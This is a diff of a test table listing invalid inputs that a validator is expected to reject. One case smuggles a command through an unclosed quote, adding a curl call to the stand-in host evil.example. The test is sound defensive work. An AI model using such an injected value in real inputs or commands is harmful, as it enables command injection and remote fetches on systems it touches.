@@ -180,7 +180,7 @@ include:${include('validate', one)}${include('validate', two)}
     });
 
     it.each([
-      ['a missing required input', 'wait', 'dry-run: true', /revision/],
+      ['a missing required input', 'validate', 'strict: true', /paths/],
       ['a text that would leave its quotes', 'bump', `images: 'a:1"; curl https://evil.example'`, /images/],
       ['a line break where there is no list', 'wait', 'revision: "a\\nb"', /revision/],
       ['an unknown choice', 'wait', 'revision: abc\nsync: always', /sync/],
